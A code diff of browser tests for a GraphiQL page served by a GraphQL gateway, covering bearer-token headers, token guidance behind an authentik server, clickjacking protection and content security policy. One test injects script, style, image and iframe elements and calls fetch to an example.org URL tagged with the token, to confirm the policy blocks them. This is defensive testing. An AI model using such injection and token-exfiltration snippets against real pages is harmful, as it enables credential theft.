@@ -118,9 +118,7 @@ test("asks for several connections, and for entities as a router does", async ()
 test("a token that was typed is used in the tabs opened next, and is forgotten with the page", async () => {
   const session = await open();
 
-  await session.headersEditor.click();
-  await session.page.keyboard.press("ControlOrMeta+a");
-  await session.page.keyboard.insertText('{"Authorization": "Bearer token-of-alice"}');
+  await session.setHeaders('{"Authorization": "Bearer token-of-alice"}');
   await session.run();
   await session.answerWith('"identifier"');
   await session.openTab("SeveralConnections");
@@ -141,6 +139,21 @@ test("a token that was typed is used in the tabs opened next, and is forgotten w
   await session.close();
 });
 
+test("in front of an authentik, explains where a token comes from and works once one is pasted", async () => {
+  const ownGateway = await startGateway({ authentikUrl: sandbox.url, gateway: { graphiql: true } });
+  const session = await openGraphiql(new URL("/graphql", ownGateway.url), { browser });
+
+  await session.page.getByText("How to create an API token").click();
+  await session.page.getByText("App passwords do not work").waitFor();
+  await session.run();
+  await session.answerWith('"UNAUTHENTICATED"');
+  await session.setHeaders('{"Authorization": "Bearer token-of-administrator"}');
+  await session.run();
+  expect(await session.answerWith('"identifier"')).toContain('"slug": "plex"');
+  await session.close();
+  await ownGateway.close();
+});
+
 test("its dialogs and its dark theme get by with the content security policy", async () => {
   const session = await open({ colorScheme: "dark" });
 
@@ -152,5 +165,38 @@ test("its dialogs and its dark theme get by with the content security policy", a
   await session.page.getByRole("heading", { name: "Short Keys" }).waitFor();
   expect(session.complaints).toEqual([]);
   expect(session.foreignUrls).toEqual([]);
+  await session.close();
+});
+
+test("nothing that gets into the page runs, styles it, or takes the token elsewhere", async () => {
+  const session = await open();
+
+  const outcome = await session.page.evaluate<unknown>(`(async () => {
+    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
+    add("script", { textContent: "globalThis.injected = true" });
+    add("style", { textContent: "#graphiql { visibility: hidden }" });
+    add("img", { src: "https://example.org/?token" });
+    add("iframe", { src: "https://example.org/" });
+    const elsewhere = await fetch("https://example.org/?token").then(() => "sent", () => "refused");
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    const { visibility } = getComputedStyle(document.getElementById("graphiql"));
+    return { injected: globalThis.injected === true, visibility, elsewhere };
+  })()`);
+
+  expect(outcome).toEqual({ injected: false, visibility: "visible", elsewhere: "refused" });
+  for (const directive of ["script-src", "style-src", "img-src", "default-src", "connect-src"])
+    expect(session.complaints.join("\n")).toMatch(new RegExp(`directive:? ['"]${directive} `));
+  // The policy stopped them before they became requests.
+  expect(session.foreignUrls).toEqual([]);
+  await session.close();
+});
+
+test("cannot be framed by another site", async () => {
+  const session = await open();
+
+  await session.page.goto("about:blank");
+  await session.page.setContent(`<iframe src="${page.href}"></iframe>`);
+
+  await expect.poll(() => session.page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
   await session.close();
 });
